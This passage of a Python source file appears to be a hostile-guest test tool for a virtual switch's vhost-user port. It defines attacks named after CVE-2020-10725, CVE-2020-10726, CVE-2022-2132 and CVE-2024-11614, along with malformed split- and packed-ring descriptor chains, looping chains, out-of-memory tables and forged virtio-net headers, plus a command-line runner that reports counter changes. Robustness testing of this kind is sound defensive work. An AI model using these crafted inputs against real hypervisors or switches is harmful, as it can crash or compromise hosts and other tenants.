@attack("cve-2020-10725", "cve", "nested indirect tables and tables outside or across guest memory")
def cve_2020_10725(ctx: Context) -> str:
    def build(fe, ring):
        pkt = good_packet(fe)
        inner = ring.write_indirect_table([(buf(fe, pkt), len(pkt), 0, 0)])
        nested = ring.write_indirect_table([(inner, 16, VIRTQ_DESC_F_INDIRECT, 0)])
        d = take_high(ring, 5)
        mem_end = fe.mem.gpa_base + fe.mem.size
        indirect(fe, ring, d[0], nested, 16)
        indirect(fe, ring, d[1], mem_end - 16, 64)          # table crossing the end of memory
        indirect(fe, ring, d[2], mem_end + (1 << 30), 16)   # table outside memory
        indirect(fe, ring, d[3], inner + 4, 16)             # misaligned table
        ring.write_desc(d[4], 0, 0, 0)                      # an empty chain at guest address 0
        return publish(ring, *d)
    return inject_chains(ctx, "nested indirect, tables across/outside memory, misaligned, empty chain", build)


@attack("cve-2020-10726", "cve", "a GET_INFLIGHT_FD flood and ring sizes 0, odd and oversized")
def cve_2020_10726(ctx: Context) -> str:
    fe = ctx.frontend()
    fe.handshake(stop_before=Request.SET_FEATURES)
    flood = refused_flood(fe, [(Request.GET_INFLIGHT_FD, struct.pack("=QII", 0, 256, 1))] * 500)
    sizes = one_message_each(ctx, [
        (f"SET_VRING_NUM {n}", vring_case(Request.SET_VRING_NUM, protocol.pack_vring_state(0, n)))
        for n in (0, 255, 65536, 0xFFFFFFFF)], stop_before=Request.SET_VRING_NUM)
    return f"GET_INFLIGHT_FD flood: {flood}; ring sizes: {sizes}"


@attack("cve-2022-2132", "cve", "virtio-net headers split over tiny descriptors, short and over-segmented chains")
def cve_2022_2132(ctx: Context) -> str:
    def build(fe, ring):
        hdr = ring.net_header()
        frame = eth_frame(ctx.dst_mac, ATTACKER_MAC)
        d = take_high(ring, 60)
        heads = []
        # 1. The header in 1-byte pieces, then the frame: valid, and must be copied piece by piece.
        pieces = [buf(fe, hdr[i:i + 1]) for i in range(len(hdr))]
        chain = d[:len(hdr) + 1]
        for k, (desc, gpa) in enumerate(zip(chain, pieces + [buf(fe, frame)])):
            ring.write_desc(desc, gpa, 1 if k < len(hdr) else len(frame), VIRTQ_DESC_F_NEXT, chain[k + 1]
                            if k < len(hdr) else 0)
            if k == len(hdr):
                ring.write_desc(desc, gpa, len(frame), 0, 0)
        heads.append(chain[0])
        # 2. A header split in 2-byte pieces that ends after 6 bytes: shorter than the header.
        short = d[20:23]
        for k, desc in enumerate(short):
            ring.write_desc(desc, buf(fe, hdr[2 * k:2 * k + 2]), 2,
                            VIRTQ_DESC_F_NEXT if k < 2 else 0, short[k + 1] if k < 2 else 0)
        heads.append(short[0])
        # 3. Header pieces with zero-length descriptors in between, then the frame.
        mixed = d[30:38]
        parts = [(hdr[:5], 5), (b"", 0), (hdr[5:], len(hdr) - 5), (b"", 0), (frame, len(frame))]
        for k, (data, length) in enumerate(parts):
            last = k == len(parts) - 1
            ring.write_desc(mixed[k], buf(fe, data or b"\0"), length, 0 if last else VIRTQ_DESC_F_NEXT,
                            0 if last else mixed[k + 1])
        heads.append(mixed[0])
        # 4. An indirect table of 200 one-byte pieces: more pieces than a packet may have.
        data = hdr + eth_frame(ctx.dst_mac, ATTACKER_MAC, b"x" * 300)
        table = ring.write_indirect_table([(buf(fe, data[i:i + 1]), 1, VIRTQ_DESC_F_NEXT, i + 1)
                                           for i in range(199)] + [(buf(fe, data[199:]), len(data) - 199, 0, 0)])
        heads.append(indirect(fe, ring, d[40], table, 16 * 200))
        # 5. A 12-byte header in a 1-byte descriptor whose buffer sits on the last byte of memory.
        mem_end = fe.mem.gpa_base + fe.mem.size
        ring.write_desc(d[41], mem_end - 1, 1, VIRTQ_DESC_F_NEXT, d[42])
        ring.write_desc(d[42], mem_end - 1, 11, 0, 0)
        heads.append(d[41])
        return publish(ring, *heads)
    return inject_chains(ctx, "header in 1-byte pieces, 6-byte header, zero-length pieces, 200 pieces, "
                              "header at the end of memory", build)


@attack("cve-2024-11614", "cve", "forged headers and buffers that point the back-end past the packet")
def cve_2024_11614(ctx: Context) -> str:
    def build(fe, ring):
        csum = VIRTIO_NET_HDR_F_NEEDS_CSUM
        short = eth_frame(ctx.dst_mac, ATTACKER_MAC, b"s" * 46)
        tcp = tcp4_frame(ctx.dst_mac, ATTACKER_MAC, 200)
        hl = ring.hdr_len
        headers = [
            (short, net_hdr(hl, flags=csum, csum_start=50, csum_offset=40)),           # field past a short frame
            (short, net_hdr(hl, flags=csum, csum_start=0xFFFF, csum_offset=0xFFFF)),   # 16-bit sums overflow
            (tcp, net_hdr(hl, flags=csum, gso_type=GSO_TCPV4, hdr_len_field=0xFFFF, gso_size=1,
                          csum_start=34, csum_offset=16)),                            # header longer than frame
            (tcp, net_hdr(hl, flags=csum, gso_type=GSO_TCPV4, hdr_len_field=54, gso_size=1,
                          csum_start=34, csum_offset=16)),                            # 200 one-byte segments
        ]
        heads = [ring.post_tx(frame, header=header) for frame, header in headers]
        # A descriptor shorter than the header the device must read.
        d = take_high(ring, 1)
        ring.write_desc(d[0], buf(fe, ring.net_header()[:4]), 4, 0, 0)
        return heads + publish(ring, d[0])
    return inject_chains(ctx, "csum fields past a short frame, csum_start 0xffff, GSO hdr_len 0xffff, "
                              "gso_size 1, 4-byte buffer for the header", build,
                         features=DRIVER_FEATURES | OFFLOAD_FEATURES)


# ------------------------------------------------------------ ring indexes

@attack("looping-chain", "ring", "descriptor chains that loop (self, two-cycle, inside an indirect table)")
def looping_chain(ctx: Context) -> str:
    def build(fe, ring):
        pkt = buf(fe, good_packet(fe))
        d = take_high(ring, 4)
        ring.write_desc(d[0], pkt, 1, VIRTQ_DESC_F_NEXT, d[0])
        ring.write_desc(d[1], pkt, 1, VIRTQ_DESC_F_NEXT, d[2])
        ring.write_desc(d[2], pkt, 1, VIRTQ_DESC_F_NEXT, d[1])
        table = ring.write_indirect_table([(pkt, 1, VIRTQ_DESC_F_NEXT, 1), (pkt, 1, VIRTQ_DESC_F_NEXT, 0)])
        indirect(fe, ring, d[3], table, 32)
        return publish(ring, d[0], d[1], d[3])
    return inject_chains(ctx, "3 looping chains", build)


@attack("chain-longer-than-ring", "ring", "a chain through every descriptor of the ring and back again")
def chain_longer_than_ring(ctx: Context) -> str:
    def build(fe, ring):
        pkt = buf(fe, good_packet(fe))
        n = ring.size // 2
        d = take_high(ring, n)
        # n descriptors, walked twice round: more than n without repeating a head slot.
        for k in range(n):
            ring.write_desc(d[k], pkt, 1, VIRTQ_DESC_F_NEXT, d[(k + 1) % n])
        return publish(ring, d[0])
    return inject_chains(ctx, "a chain of 128 descriptors that wraps round to its head", build)


@attack("avail-index-jump", "ring", "avail->idx moved by more than the ring size")
def avail_index_jump(ctx: Context) -> str:
    def build(fe, ring):
        ring.set_avail_idx(ring.avail_idx + ring.size + 5)
        return []
    return inject_chains(ctx, "avail index jumped by ring size + 5", build)


@attack("head-past-ring", "ring", "an avail ring entry naming a head past the descriptor table")
def head_past_ring(ctx: Context) -> str:
    def build(fe, ring):
        return publish(ring, ring.size + 3)
    return inject_chains(ctx, "head 259 in a 256-entry ring", build)


# ------------------------------------------------------------ packed rings

PACKED_FEATURES = DRIVER_FEATURES | bits(protocol.VIRTIO_F_RING_PACKED)


def packed_chain(ring: PackedQueue, descs: list[tuple[int, int, int]], id_: int | None = None) -> int:
    """Makes raw (addr, len, flags) descriptors available as one chain with
    the right wrap bits; the driver tracks it unless `id_` is forced."""
    bid = ring._take_id() if id_ is None else id_
    chain = PackedChain(bid, len(descs), [], "raw") if id_ is None else None
    ring.publish_raw([(addr, length, bid, flags) for addr, length, flags in descs], chain=chain)
    return bid


@attack("packed-bad-chains", "packed",
        "packed ring: buffers outside memory, zero-length, oversize, writable, bad ids, bad indirect tables")
def packed_bad_chains(ctx: Context) -> str:
    def build(fe, ring):
        data = good_packet(fe)
        pkt, n = buf(fe, data), len(data)
        end = fe.mem.gpa_base + fe.mem.size
        table = ring.write_indirect_table([(pkt, n, 0, 0)])
        nested = ring.write_indirect_table([(table, 16, 0, VIRTQ_DESC_F_INDIRECT)])
        ids = [packed_chain(ring, descs) for descs in (
            [(0xDEAD0000000, 64, 0)],
            [(end - 32, 64, 0)],
            [(pkt, 0, 0)],
            [(fe.mem.gpa_base, 70000, 0)],
            [(pkt, n, VIRTQ_DESC_F_WRITE)],
            [(nested, 16, VIRTQ_DESC_F_INDIRECT)],
            [(table, 17, VIRTQ_DESC_F_INDIRECT)],
            [(table, 16 * (ring.size + 1), VIRTQ_DESC_F_INDIRECT)],
            [(table, 16, VIRTQ_DESC_F_INDIRECT | VIRTQ_DESC_F_NEXT), (pkt, n, 0)],
        )]
        return ids + [packed_chain(ring, [(pkt, n, 0)], id_=ring.size + 5)]
    return inject_chains(ctx, "10 malformed packed chains", build, features=PACKED_FEATURES)


@attack("packed-chain-longer-than-ring", "packed", "packed ring: every descriptor of the ring chained with F_NEXT")
def packed_chain_longer_than_ring(ctx: Context) -> str:
    def build(fe, ring):
        pkt = buf(fe, good_packet(fe))
        return [packed_chain(ring, [(pkt, 1, VIRTQ_DESC_F_NEXT)] * ring.size)]
    return inject_chains(ctx, "a chain through all 256 slots, never ending", build, features=PACKED_FEATURES)


@attack("packed-wrong-wrap", "packed", "packed ring: descriptors made available with the other lap's wrap bits")
def packed_wrong_wrap(ctx: Context) -> str:
    def build(fe, ring):
        data = good_packet(fe)
        pkt, n = buf(fe, data), len(data)
        # A head marked for the wrong lap must not be taken ...
        ring.write_desc(ring.next_avail, pkt, n, 0, ring.avail_flags(ring.avail_wrap ^ 1))
        fe.kick(ring.index)
        time.sleep(0.2)
        # ... and a chain that runs into such a descriptor ends before it.
        bid = ring._take_id()
        ring.publish_raw([(pkt, 12, bid, VIRTQ_DESC_F_NEXT)], chain=PackedChain(bid, 1, [], "raw"))
        ring.write_desc(ring.next_avail, pkt + 12, n - 12, bid, ring.avail_flags(ring.avail_wrap ^ 1))
        return [bid]
    return inject_chains(ctx, "a head and a chain's second descriptor with the wrong wrap bits", build,
                         features=PACKED_FEATURES)


# ----------------------------------------------------------------------- cli

def run_one(ctx: Context, item: Attack, timeout: float) -> tuple[bool, str]:
    def expired(_sig, _frame):
        raise AttackTimeout(f"not finished within {timeout:.0f} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, timeout)
    try:
        return True, item.run(ctx)
    except AttackError as exc:
        return False, f"could not attack: {exc}"
    except (BackendClosed, RequestFailed) as exc:
        return False, f"could not attack: {exc}"
    except Exception as exc:  # a bug in an attack must not hide the others' results
        return False, f"tool error: {type(exc).__name__}: {exc}"
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
        ctx.close()


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m tools.hostile", description=__doc__.split("\n\n")[0])
    p.add_argument("--socket", help="the vhost-user port socket (the switch listens on it)")
    what = p.add_mutually_exclusive_group(required=True)
    what.add_argument("--attack", action="append", choices=sorted(ATTACKS), metavar="NAME",
                      help="an attack to run (repeatable); see --list")
    what.add_argument("--all", action="store_true", help="run every attack, one after another")
    what.add_argument("--list", action="store_true", help="list the attacks")
    p.add_argument("--dst-mac", type=parse_mac, default=parse_mac(DEFAULT_DST_MAC),
                   help=f"destination of frames whose offload header matters (default {DEFAULT_DST_MAC})")
    p.add_argument("--hold", type=float, default=0.5,
                   help="seconds to keep the hostile state before disconnecting (default %(default)s)")
    p.add_argument("--count", type=int, default=8000,
                   help="MACs for mac-hash-flood; message-flood sends half as many requests (default %(default)s)")
    p.add_argument("--fib-buckets", type=int, default=DEFAULT_FIB_BUCKETS,
                   help="bucket count of the FIB hash to collide in (default %(default)s)")
    p.add_argument("--victim-mac", type=parse_mac,
                   help="mac-hash-flood: collide with this (another tenant's) MAC's bucket")
    p.add_argument("--timeout", type=float, default=60.0, help="time limit per attack (default %(default)s)")
    p.add_argument("--control", metavar="SOCK",
                   help="vswitchd's control socket: print how PORT's counters changed after each attack")
    p.add_argument("--port", help="the attacked port's name, with --control")
    return p


def port_counters(control: str, port: str) -> dict[str, int]:
    """Every number in `vswitchctl --json show PORT`, by dotted path ({} if there is no answer)."""
    from vswitch.control.cli import ControlError, call
    try:
        info = call(control, "port/show", {"name": port}, timeout=5)["ports"][0]
    except (ControlError, LookupError) as exc:
        return {"(no answer)": str(exc)}
    flat: dict[str, int] = {}

    def walk(node, path):
        if isinstance(node, dict):
            for key, value in node.items():
                walk(value, f"{path}.{key}" if path else key)
        elif isinstance(node, list):
            for i, value in enumerate(node):
                walk(value, f"{path}.{i}")
        elif isinstance(node, int) and not isinstance(node, bool):
            flat[path] = node

    walk(info, "")
    return flat


def counter_changes(before: dict, after: dict) -> str:
    if "(no answer)" in after:
        return f"no answer from the switch ({after['(no answer)']})"
    changes = [f"{k} {after[k] - before.get(k, 0):+d}" for k in sorted(after)
               if isinstance(after[k], int) and after[k] != before.get(k, 0)
               and not k.startswith(("vhost.rings.", "queue_stats."))]
    return ", ".join(changes) or "no counter changed"


def main(argv=None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    if args.list:
        width = max(map(len, ATTACKS))
        for item in ordered_attacks():
            print(f"{item.name:<{width}}  {item.group:<9}  {item.description}")
        return 0
    if not args.socket:
        parser.error("--socket is required")
    if args.fib_buckets <= 0 or args.fib_buckets & (args.fib_buckets - 1):
        parser.error("--fib-buckets must be a power of two")
    if bool(args.control) != bool(args.port):
        parser.error("--control and --port go together")
    names = [a.name for a in ordered_attacks()] if args.all else args.attack
    ctx = Context(args)
    status = 0
    for name in names:
        before = port_counters(args.control, args.port) if args.control else None
        ok, result = run_one(ctx, ATTACKS[name], args.timeout)
        if before is not None:
            time.sleep(0.2)     # the PMD counts as it goes; give the last burst a moment
            result += f" [counters: {counter_changes(before, port_counters(args.control, args.port))}]"
        print(f"{name}: {result}", flush=True)
        status |= 0 if ok else 1
    return status


if __name__ == "__main__":
    sys.exit(main())
